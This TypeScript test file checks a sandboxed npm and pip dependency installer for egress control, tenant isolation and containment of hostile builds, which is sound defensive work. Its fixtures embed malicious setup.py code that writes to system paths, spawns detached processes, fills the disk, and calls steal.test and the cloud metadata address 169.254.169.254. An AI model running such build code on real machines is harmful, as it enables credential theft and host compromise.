import assert from 'node:assert/strict';
import { after, test } from 'node:test';
import { startPackageRegistry } from '../../../test/support/package-registry.ts';
import { ensureRuntime } from '../../base/runtime.ts';
import { sandboxDrivers } from '../../drivers/sandboxes/index.ts';
import { execute, openTrial, textFile } from '../../drivers/sandboxes/trial.ts';
import { createEgress } from '../egress/egress.ts';
import { ensureShim } from '../egress/shim.ts';
import type { WorkspaceEvent } from '../workspace/workspace.ts';
import { createDependencies, type InstallRequest, type InstallResult } from './dependencies.ts';
import { readRegistries } from './registries.ts';

const MiB = 1024 ** 2;
const trial = openTrial(sandboxDrivers.bubblewrap);
const registry = await startPackageRegistry();
const host = `registry.test:${registry.port}`;
const egress = createEgress({
  dataDir: trial.dataDir,
  resolve: async (name) => (name === 'registry.test' ? ['127.0.0.1'] : []),
});
const shim = await ensureShim({
  dataDir: trial.dataDir,
  ...(await ensureRuntime({ dataDir: trial.dataDir })),
});
const limits = {
  wallMs: 60_000,
  memoryBytes: 1024 * MiB,
  processes: 128,
  fileBytes: 64 * MiB,
  diskBytes: 64 * MiB,
  inodes: 20_000,
  outputBytes: MiB,
};
const dependencies = createDependencies({
  sandboxes: trial.driver,
  egress,
  shim,
  registries: readRegistries([`node=http://${host}/npm/`, `python=http://${host}/simple/`], []),
  limits,
});

await registry.addNpm({ name: 'left', version: '1.0.0', files: { 'index.js': 'module.exports = "left"' } });
await registry.addPython({ name: 'sidepack', version: '1.0', module: 'SIDE = "py"' });

after(async () => {
  await egress.close();
  await registry.close();
  await trial.close();
});

type Files = Readonly<Record<string, string>>;

/** Saves a checkout and installs what it asks for. */
async function install(
  layer: string,
  files: Files,
  request: Partial<InstallRequest> = {},
): Promise<InstallResult & { readonly events: WorkspaceEvent[] }> {
  const tenant = request.tenant ?? 'trial';
  if (!(await trial.driver.layers.has(tenant, layer))) {
    const box = await trial.onTree([], { tenant });
    await box.put(Object.entries(files).map(([path, text]) => textFile(path, text)));
    await box.save(layer);
    await box.destroy();
  }
  const events: WorkspaceEvent[] = [];
  const asked = {
    tenant,
    trust: 'trusted',
    layers: [layer],
    signal: AbortSignal.timeout(60_000),
    ...request,
  } as const;
  const result = await dependencies.install({
    ...asked,
    environment: await dependencies.survey(asked),
    onEvent: (event) => events.push(event),
  });
  return { ...result, events };
}

/** What a program of a run sees over the layers. */
async function see(
  layers: readonly string[],
  script: string,
  env: Files = {},
  tenant = 'trial',
): Promise<string> {
  const box = await trial.onTree(layers, { tenant });
  const { stdout, stderr } = await execute(box, {
    argv: ['sh', '-c', script],
    env,
    reservesAddressSpace: true,
  });
  await box.destroy();
  return stdout + stderr;
}

const npmFiles = (names: readonly string[]): Files => {
  const { manifest, lockfile } = registry.npmProject(names, host);
  return { 'package.json': manifest, 'package-lock.json': lockfile };
};
const froms = ({ installed }: InstallResult) => installed.map(({ name, from }) => `${name} ${from}`);
const toEgress = (events: readonly WorkspaceEvent[]) =>
  events.flatMap((event) => (event.type === 'egress' ? [event.data] : []));

test('packages of several ecosystems come through the proxy, then from the snapshot, also for another commit', async () => {
  const files = {
    ...npmFiles(['left']),
    'api/requirements.txt': 'sidepack==1.0\n',
    'main.js': 'console.log(require("left"))',
  };
  const first = await install('one', files);
  assert.deepEqual(froms(first), ['npm install', 'pip (api) install'], JSON.stringify(first.installed));
  const asked = toEgress(first.events);
  assert.ok(asked.length >= 2 && asked.every((each) => each.allowed && each.host === 'registry.test'));
  assert.ok(asked.every(({ times = 0, bytesIn = 0 }) => times > 0 && bytesIn > 0));
  const script = 'pwd; ls -A; node main.js; python3 -c "import sidepack; print(sidepack.SIDE)"; ls -A api';
  const shown = await see(['one', ...first.layers], script, first.env);
  assert.equal(
    shown,
    '/workspace\napi\nmain.js\nnode_modules\npackage-lock.json\npackage.json\nleft\npy\n.venv\nrequirements.txt\n',
  );
  assert.deepEqual(first.ignore, ['node_modules', '.venv']);

  const before = registry.requests.length;
  const again = await install('one', files);
  assert.deepEqual(froms(again), ['npm snapshot', 'pip (api) snapshot']);
  assert.deepEqual(again.layers, first.layers);
  assert.deepEqual(toEgress(again.events), []);
  const changed = { ...files, 'main.js': 'console.log("other", require("left"))' };
  const other = await install('two', changed);
  assert.deepEqual(froms(other), ['npm snapshot', 'pip (api) snapshot']);
  assert.match(await see(['two', ...other.layers], 'node main.js'), /^other left\n$/);
  assert.equal(registry.requests.length, before);
});

test('a stranger, and another tenant, get nothing of it and give nothing to it', async () => {
  const files = npmFiles(['left']);
  const trusted = await install('shared', files);
  const stranger = await install('shared', files, { tenant: 'trial stranger', trust: 'stranger' });
  assert.deepEqual(froms(stranger), ['npm install']);
  assert.notDeepEqual(stranger.layers, trusted.layers);
  const sameTenant = await install('shared', files, { trust: 'stranger' });
  assert.deepEqual(froms(sameTenant), ['npm install']);
  assert.equal(await trial.driver.layers.has('trial', stranger.layers[0] ?? ''), false);
});

test('scripts of npm packages are not run', async () => {
  await registry.addNpm({
    name: 'eager',
    version: '1.0.0',
    files: { 'index.js': '' },
    scripts: { preinstall: 'touch $INIT_CWD/ran node_modules/ran', postinstall: 'exit 1' },
  });
  const result = await install('eager', npmFiles(['eager']));
  assert.deepEqual(froms(result), ['npm install'], JSON.stringify(result.installed));
  assert.equal(
    await see(['eager', ...result.layers], 'ls node_modules; ls -A'),
    'eager\nnode_modules\npackage-lock.json\npackage.json\n',
  );
});

/** A project whose build is a program that a stranger wrote: pip runs it. */
const hostile = (code: string): Files => ({
  'setup.py': `import os, socket, subprocess, urllib.request
from setuptools import setup
${code}
setup(name='x', version='1', py_modules=[])
`,
  'src/main.py': 'good',
});

test('what a build writes elsewhere, starts or asks for is gone, refused and told of; packages are kept', async () => {
  const code = `
for path in ('/workspace/planted', '/workspace/src/planted.py', '/workspace/.gitconfig', '/opt/gantry/node/x', '/usr/x'):
    try: open(path, 'w').write('evil')
    except OSError: pass
os.makedirs('/workspace/deep/er', exist_ok=True)
os.chmod('/workspace/src', 0)
subprocess.Popen(['setsid', 'sleep', '600'], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
for url in ('http://steal.test/?x', 'http://169.254.169.254/latest/meta-data', 'http://127.0.0.1:3128/v1/models'):
    try: urllib.request.urlopen(url)
    except OSError: pass`;
  const files = hostile(code);
  const result = await install('builds', files);
  assert.deepEqual(froms(result), ['pip project install'], JSON.stringify(result.installed));
  const refused = toEgress(result.events).filter(({ allowed }) => !allowed);
  assert.deepEqual([...new Set(refused.map(({ host: asked, reason }) => `${asked} ${reason}`))].toSorted(), [
    '169.254.169.254 an address in place of a name',
    'steal.test not on the list',
  ]);
  const script =
    'ls -A . src; cat src/main.py; echo; python3 -c "import sys; print(sys.prefix)"; ls /run /private 2>&1 | wc -l';
  assert.equal(
    await see(['builds', ...result.layers], script, result.env),
    '.:\n.venv\nsetup.py\nsrc\nx.egg-info\n\nsrc:\nmain.py\ngood\n/workspace/.venv\n2\n',
  );
  // Another state of the files is not served by what this one's build made.
  const other = await install(
    'builds-two',
    { ...files, 'src/main.py': 'better' },
    { signal: AbortSignal.timeout(1) },
  ).catch((error: unknown) => error);
  assert.ok(other instanceof DOMException && other.name === 'TimeoutError');
});

test('a build that changes the repository, one that fails and one that fills the disk leave a notice and no layer', async () => {
  const before = (await trial.driver.layers.list()).length;
  const changed = await install(
    'changes',
    hostile("open('src/main.py', 'w').write('evil'); os.utime('src/main.py', (0, 0))"),
  );
  assert.deepEqual(froms(changed), ['pip project none']);
  assert.match(changed.installed[0]?.notice ?? '', /changed files of the repository \(src\/main\.py\)/);
  assert.equal(await see(['changes'], 'cat src/main.py; ls -A'), 'goodsetup.py\nsrc\n');
  const full = await install(
    'fills',
    hostile(
      "subprocess.run('yes > /workspace/.venv/full; yes > /private/full', shell=True); raise SystemExit('\\x1b[31mno room')",
    ),
  );
  assert.match(
    full.installed[0]?.notice ?? '',
    /were not installed: the install (reached its disk limit|ended with code 1)/,
  );
  assert.doesNotMatch(full.installed[0]?.notice ?? '', /[\u0000-\u001f]/);
  assert.ok(full.events.some((event) => event.type === 'log' && event.data.level === 'warn'));
  assert.equal((await trial.driver.layers.list()).length, before + 2);
});

test('a manager that this machine lacks, and a registry that is refused, are said in words; required ones fail', async () => {
  const lacking = { 'package.json': '{}', 'pnpm-lock.yaml': '' };
  const missing = await install('lacking', lacking);
  assert.match(missing.installed[0]?.notice ?? '', /^pnpm is not installed on this machine/);
  await assert.rejects(install('lacking', lacking, { required: true }), { code: 'WORKSPACE_FAILED' });
  const { lockfile, manifest } = registry.npmProject(['left'], 'evil.test');
  const elsewhere = { 'package.json': manifest, 'package-lock.json': lockfile };
  const refused = await install('elsewhere', elsewhere);
  assert.match(refused.installed[0]?.notice ?? '', /asked for evil\.test, port 80, which is not a registry/);
  assert.ok(toEgress(refused.events).some(({ host: asked, allowed }) => asked === 'evil.test' && !allowed));
});
